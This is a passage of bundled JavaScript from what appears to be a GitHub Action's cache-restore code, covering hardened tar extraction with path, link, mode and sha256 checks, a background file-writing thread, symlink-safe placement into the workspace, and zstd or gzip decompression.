        const allowed = META_LIMITS.slack + META_LIMITS.perMember * this.members;
        if (this.allMetaBytes > allowed)
            throw new Rejected(`malformed archive: extended headers over ${allowed} bytes for ${this.members} members`);
    }
    meta(flag, body) {
        if (flag === 'x') {
            this.paxRecords += parsePax(body, this.pax, META_LIMITS.records - this.paxRecords);
            for (const key of ['path', 'linkpath'])
                if (Buffer.byteLength(this.pax.get(key) ?? '') > META_LIMITS.name)
                    throw new Rejected(`malformed archive: pax ${key} over ${META_LIMITS.name} bytes`);
        }
        else if (flag === 'L')
            this.longName = cstr(body, 0, body.length);
        else if (flag === 'K')
            this.longLink = cstr(body, 0, body.length);
        // 'g' (global pax) carries nothing swr uses: bounded above, never parsed.
    }
}

;// CONCATENATED MODULE: ./src/core/archive/file-writer.mjs
// The file-writing thread of a cache extraction (see write-queue.ts). Plain JavaScript so the same
// file runs as a worker_threads script from src/ (tests) and beside every bundle. It only creates
// what the main thread already checked and proved: each file with O_CREAT|O_EXCL|O_NOFOLLOW inside
// the private scratch directory, each hard link's copy with COPYFILE_EXCL. The first failure stops
// it; everything after is dropped.



const CREATE =
  external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_EXCL | external_node_fs_.constants.O_NOFOLLOW

/**
 * Create `abs` (never over anything, never through a link) with `bytes`; the main thread calls
 * it too, for the small restores that are not worth a thread.
 * @param {string} abs
 * @param {Uint8Array} bytes
 * @param {number} mode
 * @param {boolean} fixMode
 */
function createFile(abs, bytes, mode, fixMode) {
  const fd = external_node_fs_.openSync(abs, CREATE, mode & 0o777)
  try {
    let off = 0
    while (off < bytes.length) off += external_node_fs_.writeSync(fd, bytes, off, bytes.length - off)
    if (fixMode) external_node_fs_.fchmodSync(fd, mode)
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

let failed = false

/**
 * One batch: `ops[i]` is [abs, mode, fixMode, size] for a file (its bytes next in `data`) or
 * [abs, from] for a copy.
 * @param {{ ops: ([string, number, boolean, number] | [string, string])[], data: ArrayBuffer }} batch
 */
function run(batch) {
  if (failed) return
  const data = new Uint8Array(batch.data)
  let at = 0
  for (let i = 0; i < batch.ops.length; i++) {
    const op = batch.ops[i]
    try {
      if (typeof op[1] === 'string') external_node_fs_.copyFileSync(op[1], op[0], external_node_fs_.constants.COPYFILE_EXCL)
      else {
        const size = /** @type {number} */ (op[3])
        createFile(op[0], data.subarray(at, at + size), op[1], /** @type {boolean} */ (op[2]))
        at += size
      }
    } catch (err) {
      failed = true
      const e = /** @type {NodeJS.ErrnoException} */ (err)
      external_node_worker_threads_.parentPort?.postMessage({ failed: i, code: e.code ?? 'error', message: String(e.message) })
      return
    }
  }
  external_node_worker_threads_.parentPort?.postMessage({ done: batch.ops.length })
}

if (external_node_worker_threads_.workerData?.swrFileWriter) external_node_worker_threads_.parentPort?.on('message', run)

;// CONCATENATED MODULE: ./src/core/archive/write-queue.ts
/**
 * Creating extracted files on a thread of their own while the archive goes on streaming. Creating
 * tens of thousands of small files is mostly kernel time (open with O_CREAT, write, close); done
 * on the main thread it leaves the decompression, the tar parsing and the hashing waiting. Here a
 * file whose bytes were already proven is handed over whole, in batches, to one writer thread
 * (file-writer.mjs) that creates them back to back, in archive order (so a hard link's copy
 * follows its target). One writer: several only contend for the directory locks and the journal,
 * and the pool's threads would each wait on the main thread between a file's three calls.
 *
 * The archive is fed no further while too many bytes wait, so memory stays bounded whatever it
 * holds. Small extractions never start the thread: their first files are written inline.
 */




/** Files written inline before the thread is worth its start-up (~30-50 ms). */
const INLINE_FILES = 512;
/** A batch is sent at this many files or bytes (or when the archive's next chunk is awaited). */
const BATCH_FILES = 256;
const BATCH_BYTES = 1024 * 1024;
/** Bytes handed over and not yet written. */
const MAX_BYTES = 32 * 1024 * 1024;
/** Where the writer lives next to this module, in src/ and in every bundle alike. */
function writerUrl() {
    return new URL(/* asset import */ __webpack_require__(21220), __webpack_require__.b);
}
function failedWriting(label, code, message) {
    return new Rejected(`writing ${label} failed (${code}: ${message.split('\n')[0]})`);
}
class WriteQueue {
    inline = 0;
    worker;
    ops = [];
    labels = [];
    parts = [];
    batchBytes = 0;
    sent = [];
    inFlight = 0;
    failure;
    wake;
    /** Create `abs` holding `content` (O_EXCL: never over anything); `label` names it in a failure. */
    create(abs, label, content, mode, fixMode) {
        if (this.failure)
            throw this.failure;
        if (!this.worker && this.inline < INLINE_FILES) {
            this.inline++;
            return createFile(abs, content, mode, fixMode);
        }
        this.ops.push([abs, mode, fixMode, content.length]);
        this.labels.push(label);
        this.parts.push(content);
        this.batchBytes += content.length;
        if (this.ops.length >= BATCH_FILES || this.batchBytes >= BATCH_BYTES)
            this.send();
    }
    /** Copy `from` (written earlier, or queued before this) to `abs`. */
    copy(abs, label, from) {
        if (this.failure)
            throw this.failure;
        if (!this.worker)
            return external_node_fs_default().copyFileSync(from, abs, (external_node_fs_default()).constants.COPYFILE_EXCL);
        this.ops.push([abs, from]);
        this.labels.push(label);
    }
    /** Undefined while there is room; else a promise for when there is (rejects on a failure). */
    room() {
        if (this.ops.length > 0)
            this.send();
        if (this.failure)
            return Promise.reject(this.failure);
        if (this.inFlight < MAX_BYTES)
            return undefined;
        return this.waitForReply().then(() => this.room());
    }
    /** Everything handed over is written (or the writer stopped at a failure, which this rejects with). */
    async settle() {
        if (this.ops.length > 0 && !this.failure)
            this.send();
        while (this.sent.length > 0 && !this.failure)
            await this.waitForReply();
        const w = this.worker;
        this.worker = undefined;
        if (w)
            await w.terminate();
        if (this.failure)
            throw this.failure;
    }
    waitForReply() {
        return new Promise(resolve => (this.wake = resolve));
    }
    send() {
        const w = this.worker ?? this.start();
        // One buffer per batch, moved to the writer rather than copied again.
        const data = new ArrayBuffer(this.batchBytes);
        const view = new Uint8Array(data);
        let at = 0;
        for (const p of this.parts) {
            view.set(p, at);
            at += p.length;
        }
        w.postMessage({ ops: this.ops, data }, [data]);
        this.sent.push({ labels: this.labels, bytes: this.batchBytes });
        this.inFlight += this.batchBytes;
        this.ops = [];
        this.labels = [];
        this.parts = [];
        this.batchBytes = 0;
    }
    start() {
        const w = new external_node_worker_threads_.Worker(writerUrl(), { workerData: { swrFileWriter: true } });
        w.on('message', (m) => {
            const batch = this.sent.shift();
            if (batch)
                this.inFlight -= batch.bytes;
            if ('failed' in m)
                this.failure ??= failedWriting(batch?.labels[m.failed] ?? 'a file', m.code, m.message);
            this.notify();
        });
        const died = (why) => {
            if (this.sent.length > 0)
                this.failure ??= new Rejected(`the file writer stopped (${why})`);
            this.notify();
        };
        w.on('error', err => died(err.message.split('\n')[0] ?? 'error'));
        w.on('exit', code => died(`exit ${code}`));
        this.worker = w;
        return w;
    }
    notify() {
        const wake = this.wake;
        this.wake = undefined;
        wake?.();
    }
}

;// CONCATENATED MODULE: ./src/core/archive/extract.ts
/**
 * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
 * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
 * archived it, relative to GITHUB_WORKSPACE), nothing is written through a link, nothing but files,
 * directories and in-entry links is created, and counts and sizes are bounded before a byte is
 * read. With a per-file expectation (a file's sha256, a tree's signed index) each file is hashed
 * as it streams out, so a poisoned archive stops at its first wrong member and a good one is proven
 * without being read again.
 */









const LIST = 5;
/**
 * The mode bits an unsigned member may carry: setuid, setgid, sticky and world-writable are
 * dropped. A mode the signed manifest records (a file entry, an indexed tree) is kept as signed:
 * it is checked, not taken from the archive.
 */
const UNSIGNED_MODE_BITS = 0o775;
/**
 * Files up to this size are held whole, hashed, and only then created (in the background, see
 * write-queue.ts); larger ones are written as they stream.
 */
const HELD_MAX = 4 * 1024 * 1024;
/** The process umask (reading it sets it, so it is set straight back); all bits when unknown. */
function currentUmask() {
    try {
        const u = process.umask(0o022);
        process.umask(u);
        return u;
    }
    catch {
        return 0o777;
    }
}
/** Escape a name from the archive for a one-line report. */
function shown(name) {
    const clipped = name.length > 200 ? `${name.slice(0, 200)}…` : name;
    const plain = [...clipped].every(c => c >= ' ' && c !== '\x7f' && c !== '"' && c !== '\\' && c !== '%');
    return plain ? clipped : JSON.stringify(clipped);
}
class EntryExtractor {
    prefix;
    dest;
    want;
    records;
    ignored;
    seen = new Set();
    links = new Set();
    fileHashes = new Map();
    /** Each extracted file's size, so a hard link's copy counts towards the bytes written. */
    fileSizes = new Map();
    masked = 0;
    dirModes = [];
    members = 0;
    openFd;
    bytes = 0;
    skippedBytes = 0;
    files = 0;
    maxMembers;
    maxSkipped;
    writes = new WriteQueue();
    /**
     * `prefix`: the entry's path as the archive names it; `dest`: where the entry's root goes in
     * scratch (its parent exists; `dest` itself must not).
     */
    constructor(prefix, dest, want) {
        this.prefix = prefix;
        this.dest = dest;
        this.want = want;
        if (want.kind === 'indexed') {
            this.records = new Map(want.records.map(r => [r.rel, r]));
            this.ignored = ignore_rules_ignoreMatcher(want.ignore);
            const total = want.records.reduce((n, r) => n + r.size, 0);
            // Ignored members are skipped unwritten; they may not outgrow the tree itself.
            this.maxSkipped = Math.max(64 * 1024 * 1024, Math.ceil(total / 10));
            this.maxMembers =
                want.records.length + 1 + Math.max(1024, Math.ceil(want.records.length / 10));
        }
        else {
            this.maxSkipped = 0;
            this.maxMembers = want.kind === 'file' ? 1 : want.maxMembers;
        }
    }
    member(m) {
        if (++this.members > this.maxMembers)
            throw new Rejected(`more than ${this.maxMembers} members (the recorded bound)`);
        const rel = this.relOf(m.name);
        if (m.type === 'other')
            throw new Rejected(`${flagName(m.flag)} member: ${shown(m.name)}`);
        if (m.type === 'hardlink')
            this.linkTarget(m);
        if (this.records && this.isIgnored(rel)) {
            this.skippedBytes += m.size;
            if (this.skippedBytes > this.maxSkipped)
                throw new Rejected(`ignored members over ${this.maxSkipped} bytes`);
            return undefined;
        }
        if (this.seen.has(rel))
            throw new Rejected(`duplicate member: ${shown(m.name)}`);
        this.throughLink(rel, m.name);
        this.seen.add(rel);
        const at = { rel, abs: rel === '' ? this.dest : external_node_path_default().join(this.dest, rel) };
        this.checkShape(at, m);
        switch (m.type) {
            case 'dir':
                return this.dir(at, this.unsignedMode(m));
            case 'symlink':
                return this.symlink(at, m);
            case 'hardlink':
                return this.hardlink(at, m);
            default:
                return this.file(at, this.unsignedMode(m));
        }
    }
    /** Without a signed mode to match, the archive's mode loses its dangerous bits. */
    unsignedMode(m) {
        if (this.want.kind !== 'bounded' || (m.mode & ~UNSIGNED_MODE_BITS) === 0)
            return m;
        this.masked++;
        return { ...m, mode: m.mode & UNSIGNED_MODE_BITS };
    }
    room() {
        return this.writes.room();
    }
    settle() {
        return this.writes.settle();
    }
    /** Close a file left open by an archive that stopped mid-member. */
    abort() {
        if (this.openFd !== undefined)
            external_node_fs_default().closeSync(this.openFd);
        this.openFd = undefined;
    }
    /** After the archive ended: everything recorded arrived; directory modes applied last. */
    finish() {
        if (this.records) {
            const missing = [...this.records.keys()].filter(r => !this.seen.has(r));
            if (missing.length > 0)
                throw new Rejected(`${missing.length} missing: ${missing.slice(0, LIST).map(shown).join(', ')}${missing.length > LIST ? ', …' : ''}`);
        }
        else if (!this.seen.has('')) {
            throw new Rejected('the archive does not hold the entry');
        }
        for (const [abs, mode] of this.dirModes.reverse())
            external_node_fs_default().chmodSync(abs, mode);
        return {
            members: this.members,
            bytes: this.bytes,
            proven: this.want.kind !== 'bounded',
            files: this.files,
            masked: this.masked
        };
    }
    relOf(name) {
        if (name.startsWith('/'))
            throw new Rejected(`absolute member name: ${shown(name)}`);
        let rel;
        if (name === this.prefix || name === `${this.prefix}/`)
            rel = '';
        else if (name.startsWith(`${this.prefix}/`))
            rel = name.slice(this.prefix.length + 1);
        else if (name.split('/').includes('..') && !this.prefix.split('/').includes('..'))
            throw new Rejected(`member climbs out with "..": ${shown(name)}`);
        else
            throw new Rejected(`member outside the entry's path: ${shown(name)}`);
        rel = rel.replace(/\/+$/, '');
        if (rel !== '' && rel.split('/').some(c => c === '' || c === '.' || c === '..'))
            throw new Rejected(`member name with "", "." or "..": ${shown(name)}`);
        return rel;
    }
    isIgnored(rel) {
        if (rel === '' || !this.ignored)
            return false;
        const parts = rel.split('/');
        for (let i = 1; i <= parts.length; i++)
            if (this.ignored(parts.slice(0, i).join('/'), parts[i - 1] ?? ''))
                return true;
        return false;
    }
    /** A member below a link created from this archive would be written through that link. */
    throughLink(rel, name) {
        if (this.links.size === 0)
            return;
        let at = rel;
        for (let cut = at.lastIndexOf('/'); cut > 0; cut = at.lastIndexOf('/')) {
            at = at.slice(0, cut);
            if (this.links.has(at))
                throw new Rejected(`member written through a link: ${shown(name)}`);
        }
        if (rel !== '' && this.links.has(''))
            throw new Rejected(`member written through a link: ${shown(name)}`);
    }
    checkShape(at, m) {
        const w = this.want;
        if (w.kind === 'file') {
            if (at.rel !== '' || m.type !== 'file')
                throw new Rejected(`unexpected ${m.type} member: ${shown(m.name)} (the entry is one file)`);
            if (m.size !== w.size)
                throw new Rejected(`size ${m.size}, recorded ${w.size}`);
            if (m.mode !== w.mode)
                throw new Rejected(`mode ${mode_octal(m.mode)}, recorded ${mode_octal(w.mode)}`);
            return;
        }
        if (w.kind === 'bounded') {
            if (w.single && at.rel !== '')
                throw new Rejected(`unexpected member: ${shown(m.name)} (the entry is not a directory)`);
            if (this.bytes + m.size > w.maxBytes)
                throw new Rejected(`over ${w.maxBytes} bytes (the recorded bound)`);
            return;
        }
        if (at.rel === '') {
            if (m.type !== 'dir')
                throw new Rejected(`the tree's root is a ${m.type} in the archive`);
            return;
        }
        const r = this.records?.get(at.rel);
        if (!r)
            throw new Rejected(`extra ${m.type === 'dir' ? 'directory' : m.type}: ${shown(at.rel)}`);
        const type = m.type === 'dir' ? 'd' : m.type === 'symlink' ? 'l' : 'f';
        if (type !== r.type)
            throw new Rejected(`${shown(at.rel)}: ${m.type} in the archive, recorded as type ${r.type}`);
        if (type === 'f' && m.type === 'file' && m.size !== r.size)
            throw new Rejected(`${shown(at.rel)}: size ${m.size}, recorded ${r.size}`);
        if (type !== 'l' && m.mode !== r.mode)
            throw new Rejected(`${shown(at.rel)}: mode ${mode_octal(m.mode)}, recorded ${mode_octal(r.mode)}`);
        if (type === 'l' && m.linkname !== r.extra)
            throw new Rejected(`${shown(at.rel)}: link target differs from the recorded one`);
    }
    /** Directories known to exist in scratch: one mkdir per directory, not one per member. */
    made = new Set();
    umask = currentUmask();
    ensureParent(abs) {
        const parent = external_node_path_default().dirname(abs);
        if (this.made.has(parent))
            return;
        // Parents are created here, inside the private scratch directory, never followed links.
        external_node_fs_default().mkdirSync(parent, { recursive: true, mode: 0o700 });
        this.made.add(parent);
    }
    dir(at, m) {
        this.ensureParent(at.abs);
        external_node_fs_default().mkdirSync(at.abs, { mode: 0o700 });
        this.made.add(at.abs);
        this.dirModes.push([
            at.abs,
            at.rel === '' || !this.records ? m.mode : (this.records.get(at.rel)?.mode ?? m.mode)
        ]);
        return undefined;
    }
    symlink(at, m) {
        // A directory made for an earlier member's parent cannot turn into a link.
        if (this.made.has(at.abs))
            throw new Rejected(`link in place of a directory: ${shown(m.name)} -> ${shown(m.linkname)}`);
        if ((this.want.kind === 'bounded' || this.want.kind === 'file') && at.rel !== '') {
            // Unindexed: a link may only point inside the entry (a link entry's own target is checked
            // by the verifier on the scratch copy). The rule does not depend on what else the archive
            // holds or in which order: a relative target, ".." only before its first name, not climbing
            // above the entry's root from the link's own directory (a real one: nothing is extracted
            // below a link). Every link obeying it, any chain of them, through links extracted before
            // or after, can only end inside the entry, whereas a ".." after a name ("l/../..") climbs
            // from wherever that name leads.
            if (!no_follow_linkStaysInside(this.dest, at.abs, m.linkname))
                throw new Rejected(`link escapes the entry: ${shown(m.name)} -> ${shown(m.linkname)}`);
        }
        this.ensureParent(at.abs);
        external_node_fs_default().symlinkSync(m.linkname, at.abs);
        this.links.add(at.rel);
        this.files++;
        return undefined;
    }
    /** A hard link's target as a path inside the entry; one that leaves it is refused. */
    linkTarget(m) {
        try {
            return this.relOf(m.linkname);
        }
        catch {
            throw new Rejected(`hard link out of the entry: ${shown(m.name)} -> ${shown(m.linkname)}`);
        }
    }
    hardlink(at, m) {
        const target = this.linkTarget(m);
        const sum = this.fileHashes.get(target);
        if (sum === undefined)
            throw new Rejected(`hard link to no extracted file: ${shown(m.name)} -> ${shown(m.linkname)}`);
        const r = this.records?.get(at.rel);
        if (this.records && r?.extra !== sum)
            throw new Rejected(`${shown(at.rel)}: content differs from the recorded sha256`);
        if (this.want.kind === 'file')
            throw new Rejected('a hard link where one file is recorded');
        // The copy writes the target's bytes again: they count like the target's own.
        const size = this.fileSizes.get(target) ?? 0;
        if (this.want.kind === 'bounded' && this.bytes + size > this.want.maxBytes)
            throw new Rejected(`over ${this.want.maxBytes} bytes (the recorded bound, hard-linked copies counted)`);
        this.bytes += size;
        this.ensureParent(at.abs);
        // A copy, not a link: the placed tree shares no inode with anything (made after the
        // target's own write, which may still be queued).
        this.writes.copy(at.abs, shown(at.rel), external_node_path_default().join(this.dest, target));
        this.fileHashes.set(at.rel, sum);
        this.fileSizes.set(at.rel, size);
        this.files++;
        return undefined;
    }
    file(at, m) {
        this.ensureParent(at.abs);
        this.files++;
        const want = this.want.kind === 'file' ? this.want.sha256 : this.records?.get(at.rel)?.extra;
        // open() applies the umask: fix the mode only when it took something away (rarely).
        const fixMode = (m.mode & ~this.umask & 0o777) !== m.mode;
        return m.size <= HELD_MAX
            ? this.heldFile(at, m, want, fixMode)
            : this.streamedFile(at, m, want, fixMode);
    }
    judge(at, sum, want, size) {
        if (this.want.kind !== 'bounded' && sum !== want)
            throw new Rejected(`${at.rel === '' ? 'the file' : shown(at.rel)}: content differs from the recorded sha256`);
        this.fileHashes.set(at.rel, sum);
        this.fileSizes.set(at.rel, size);
    }
    /** Held whole: nothing reaches the disk unless every byte matched. */
    heldFile(at, m, want, fixMode) {
        const content = Buffer.allocUnsafe(m.size);
        let filled = 0;
        return {
            write: chunk => {
                if (filled + chunk.length > content.length)
                    throw new Rejected(`${shown(m.name)}: overlong member`);
                chunk.copy(content, filled);
                filled += chunk.length;
                this.bytes += chunk.length;
            },
            end: () => {
                if (filled !== content.length)
                    throw new Rejected(`${shown(m.name)}: short member`);
                this.judge(at, external_node_crypto_default().hash('sha256', content), want, m.size);
                this.writes.create(at.abs, shown(at.rel), content, m.mode, fixMode);
            }
        };
    }
    streamedFile(at, m, want, fixMode) {
        const fd = external_node_fs_default().openSync(at.abs, (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW, m.mode & 0o777);
        this.openFd = fd;
        const hash = (0,external_node_crypto_.createHash)('sha256');
        return {
            write: chunk => {
                this.bytes += chunk.length;
                hash.update(chunk);
                let off = 0;
                while (off < chunk.length)
                    off += external_node_fs_default().writeSync(fd, chunk, off, chunk.length - off);
            },
            end: () => {
                const sum = hash.digest('hex');
                this.openFd = undefined;
                try {
                    if (fixMode)
                        external_node_fs_default().fchmodSync(fd, m.mode);
                }
                finally {
                    external_node_fs_default().closeSync(fd);
                }
                this.judge(at, sum, want, m.size);
            }
        };
    }
}

;// CONCATENATED MODULE: ./src/core/restore/cache/place.ts
/**
 * Moving a proven entry from scratch into the workspace: every parent between the workspace and
 * the target must be a real directory (a link planted in the workspace is refused, not followed),
 * missing parents are created one by one, and the old target is renamed aside before the new one
 * is renamed in, so a failure puts the old one back and a success removes it.
 *
 * Checking the parents and then renaming by path would leave a window in which a parent swapped
 * for a symlink sends the entry wherever the link points. So the parent is pinned: each component
 * is opened with O_DIRECTORY|O_NOFOLLOW below the one before, and every rename names its file as
 * `/proc/self/fd/N/name`, which Linux resolves through the open directory itself, whatever its
 * path has become (Node has no renameat). Where /proc is not there (macOS) the renames go by path
 * and the parent is checked again afterwards: if it is no longer the directory that was checked,
 * the entry is taken back and the restore refused.
 */





const OPEN_DIR = (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_DIRECTORY | (external_node_fs_default()).constants.O_NOFOLLOW;
let procWorks;
/** True when `/proc/self/fd/N` leads to the directory open as N (checked once per process). */
function procPins(fd) {
    if (procWorks === undefined) {
        try {
            const viaProc = external_node_fs_default().statSync(`/proc/self/fd/${fd}`);
            const held = external_node_fs_default().fstatSync(fd);
            procWorks = viaProc.isDirectory() && viaProc.ino === held.ino && viaProc.dev === held.dev;
        }
        catch {
            procWorks = false;
        }
    }
    return procWorks;
}
function pinnedAt(fd, dirPath) {
    const pinned = procPins(fd);
    return {
        fd,
        pinned,
        at: name => (pinned ? `/proc/self/fd/${fd}/${name}` : external_node_path_default().join(dirPath, name))
    };
}
/** Open `name` below the directory `parent` as a directory, never through a link. */
function openBelow(parent, name, rel) {
    const refuse = () => {
        const st = external_node_fs_default().lstatSync(parent.at(name), { throwIfNoEntry: false });
        throw new Rejected(`not placed: ${shown(rel)} ${!st ? 'changed while placing' : st.isSymbolicLink() ? 'is a symbolic link' : 'is not a directory'}`);
    };
    for (let tries = 0;; tries++) {
        try {
            return external_node_fs_default().openSync(parent.at(name), OPEN_DIR);
        }
        catch (err) {
            const code = err.code;
            if (code === 'ENOTDIR' || code === 'ELOOP')
                refuse();
            if (code !== 'ENOENT' || tries > 2)
                throw err;
        }
        try {
            external_node_fs_default().mkdirSync(parent.at(name), { mode: 0o755 });
        }
        catch (err) {
            if (err.code !== 'EEXIST')
                throw err;
        }
    }
}
/**
 * Open the parent of `target` below `workspace`, creating missing directories one by one; no
 * component may be a link. The caller closes the returned descriptor.
 */
function pinParent(workspace, target) {
    const rel = external_node_path_default().relative(workspace, external_node_path_default().dirname(target));
    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
        throw new Rejected(`the target is outside the workspace: ${shown(target)}`);
    let dir = pinnedAt(external_node_fs_default().openSync(workspace, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_DIRECTORY), workspace);
    let at = workspace;
    const parts = rel === '' ? [] : rel.split((external_node_path_default()).sep);
    try {
        for (let i = 0; i < parts.length; i++) {
            const part = parts[i];
            at = external_node_path_default().join(at, part);
            const fd = openBelow(dir, part, parts.slice(0, i + 1).join('/'));
            external_node_fs_default().closeSync(dir.fd);
            dir = pinnedAt(fd, at);
        }
        return dir;
    }
    catch (err) {
        external_node_fs_default().closeSync(dir.fd);
        throw err;
    }
}
/** Copy the scratch tree `from` to `name` in `dir`, creating each part inside a pinned directory. */
function copyPinned(from, dir, name) {
    const st = external_node_fs_default().lstatSync(from);
    const to = dir.at(name);
    if (st.isSymbolicLink())
        return external_node_fs_default().symlinkSync(external_node_fs_default().readlinkSync(from), to);
    if (st.isDirectory()) {
        external_node_fs_default().mkdirSync(to, { mode: 0o700 });
        const sub = pinnedAt(external_node_fs_default().openSync(to, OPEN_DIR), to);
        try {
            for (const n of external_node_fs_default().readdirSync(from))
                copyPinned(external_node_path_default().join(from, n), sub, n);
            external_node_fs_default().fchmodSync(sub.fd, st.mode & 0o7777);
            external_node_fs_default().futimesSync(sub.fd, st.atime, st.mtime);
        }
        finally {
            external_node_fs_default().closeSync(sub.fd);
        }
        return;
    }
    // COPYFILE_EXCL creates with O_EXCL: never over anything, never through a link.
    external_node_fs_default().copyFileSync(from, to, (external_node_fs_default()).constants.COPYFILE_EXCL);
    const fd = external_node_fs_default().openSync(to, (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    try {
        external_node_fs_default().fchmodSync(fd, st.mode & 0o7777);
        external_node_fs_default().futimesSync(fd, st.atime, st.mtime);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** Same filesystem: rename. Else copy into the parent first (links kept as links). */
function stageBeside(from, dir) {
    const staged = ownedName('.swr-new-');
    try {
        external_node_fs_default().renameSync(from, dir.at(staged));
    }
    catch (err) {
        if (err.code !== 'EXDEV')
            throw err;
        if (dir.pinned)
            copyPinned(from, dir, staged);
        else
            external_node_fs_default().cpSync(from, dir.at(staged), {
                recursive: true,
                verbatimSymlinks: true,
                preserveTimestamps: true
            });
    }
    return staged;
}
const LEFT_BESIDE = [{ prefix: '.swr-new-' }, { prefix: '.swr-old-' }];
function exists(p) {
    return external_node_fs_default().lstatSync(p, { throwIfNoEntry: false }) !== undefined;
}
/**
 * Without /proc: after renaming by path, is the entry where it was meant to go? The parent's path
 * must still lead, through real directories only, to the directory held open.
 */
function stillThere(workspace, target, dir) {
    try {
        const again = pinParent(workspace, target);
        external_node_fs_default().closeSync(again.fd);
        const held = external_node_fs_default().fstatSync(dir.fd);
        const now = external_node_fs_default().lstatSync(external_node_path_default().dirname(target));
        return now.ino === held.ino && now.dev === held.dev && exists(target);
    }
    catch {
        return false;
    }
}
/** Put `from` (in scratch) at `target` (in the workspace). */
function place(workspace, from, target) {
    const dir = pinParent(workspace, target);
    try {
        // What a run killed while placing here left beside its target (the names carry its pid).
        sweepDead(dir.pinned ? `/proc/self/fd/${dir.fd}` : external_node_path_default().dirname(target), LEFT_BESIDE);
        const name = external_node_path_default().basename(target);
        const staged = stageBeside(from, dir);
        let aside;
        try {
            if (exists(dir.at(name))) {
                aside = ownedName('.swr-old-');
                external_node_fs_default().renameSync(dir.at(name), dir.at(aside));
            }
            external_node_fs_default().renameSync(dir.at(staged), dir.at(name));
        }
        catch (err) {
            if (aside && !exists(dir.at(name)))
                external_node_fs_default().renameSync(dir.at(aside), dir.at(name));
            external_node_fs_default().rmSync(dir.at(staged), { recursive: true, force: true });
            throw err;
        }
        if (!dir.pinned && !stillThere(workspace, target, dir)) {
            // The parent was swapped while the renames went by path: take the entry back from wherever
            // the path now leads (the scratch directory is removed by the caller).
            try {
                external_node_fs_default().renameSync(dir.at(name), from);
                if (aside)
                    external_node_fs_default().renameSync(dir.at(aside), dir.at(name));
            }
            catch {
                // Moved on again: nothing more can be taken back by path.
            }
            throw new Rejected(`not placed: a parent of ${shown(target)} changed while placing`);
        }
        if (aside)
            external_node_fs_default().rmSync(dir.at(aside), { recursive: true, force: true });
    }
    finally {
        external_node_fs_default().closeSync(dir.fd);
    }
}

;// CONCATENATED MODULE: ./src/core/fs/scratch.ts
/**
 * Private scratch directories: made fresh (0700) below a base, clearing those a dead run left
 * there, and removed even when what was restored into them took away write permission.
 */



/** Make a fresh 0700 scratch directory below `base`, clearing those a dead run left there. */
function makeScratch(base, name) {
    external_node_fs_default().mkdirSync(base, { recursive: true });
    return leftovers_makeOwnedTemp(base, name);
}
/** Remove a scratch directory, even one holding directories restored without write permission. */
function removeScratch(dir) {
    try {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
    catch {
        const open = (d) => {
            external_node_fs_default().chmodSync(d, 0o700);
            for (const ent of external_node_fs_default().readdirSync(d, { withFileTypes: true }))
                if (ent.isDirectory())
                    open(external_node_path_default().join(d, ent.name));
        };
        open(dir);
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
}

// EXTERNAL MODULE: external "node:stream"
var external_node_stream_ = __webpack_require__(57075);
;// CONCATENATED MODULE: ./src/core/archive/unpack.ts
/**
 * Streaming one compressed cache archive through decompression into the tar reader, stopping the
 * download as soon as the reader refuses a member or has read the end of the archive. zstd is
 * decoded by Node's zlib where it has it (Node 22.15+/24, the Action's runtime), else by a `zstd`
 * binary at a fixed system path (never one found through PATH, which a workspace can prepend to).
 */






const ZSTD_PATHS = ['/usr/bin/zstd', '/bin/zstd', '/usr/local/bin/zstd', '/opt/homebrew/bin/zstd'];
function zstdBinary() {
    return ZSTD_PATHS.find(p => {
        try {
            external_node_fs_default().accessSync(p, (external_node_fs_default()).constants.X_OK);
            return true;
        }
        catch {
            return false;
        }
    });
}
function decompressor(compression) {
    if (compression === 'gzip')
        return external_node_zlib_default().createGunzip();
    const native = (external_node_zlib_default()).createZstdDecompress;
    if (native)
        return native();
    const bin = zstdBinary();
    if (!bin)
        throw new Rejected('a zstd archive, and neither Node nor the system has zstd');
    const child = (0,external_node_child_process_.spawn)(bin, ['-d', '-c', '-q'], { stdio: ['pipe', 'pipe', 'pipe'] });
    let err = '';
    child.stderr.on('data', (c) => (err = (err + c.toString('utf8')).slice(-400)));
    const duplex = external_node_stream_.Duplex.from({ writable: child.stdin, readable: child.stdout });
    child.on('close', code => {
        if (code !== 0 && code !== null)
            duplex.destroy(new Error(err.trim().split('\n').pop() || `zstd exited ${code}`));
    });
    child.stdin.on('error', () => undefined);
    duplex.on('close', () => child.kill());
    return duplex;
}
/**
 * Feed `source` (compressed) to a tar reader driving `handlers`. Resolves when the archive ended
 * cleanly; rejects with a Rejected naming why not. The source is destroyed either way.
 */
async function unpack(source, compression, handlers) {
    const reader = new TarReader(handlers);
    let dec;
    let sourceError;
    source.on('error', e => (sourceError = e));
    try {
        dec = decompressor(compression);
        source.pipe(dec);
        for await (const chunk of dec) {
            reader.write(chunk);
            if (reader.done)
                break;
            const room = handlers.room?.();
            if (room)
                await room;
        }
        if (!reader.done) {
            if (sourceError)
                throw new Rejected(`download failed: ${sourceError.message}`);
            reader.finish();
        }
        await handlers.settle?.();
    }
    catch (err) {
        if (err instanceof Rejected)
            throw err;
        if (sourceError)
            throw new Rejected(`download failed: ${oneLine(sourceError)}`);
        throw new Rejected(`truncated or corrupt archive (${oneLine(err)})`);
    }
    finally {
        source.unpipe();
        source.destroy();
        dec?.destroy();
        // Nothing may still be writing into scratch once this returns (the caller removes it).
        await handlers.settle?.().catch(() => undefined);
    }
}
function oneLine(err) {
    const text = err instanceof Error ? err.message : String(err);
    return text.split('\n')[0]?.slice(0, 200) ?? '';
}

;// CONCATENATED MODULE: ./src/core/restore/cache/restore.ts
/**
 * One cache restore of one entry, end to end: a fresh private scratch directory, the archive
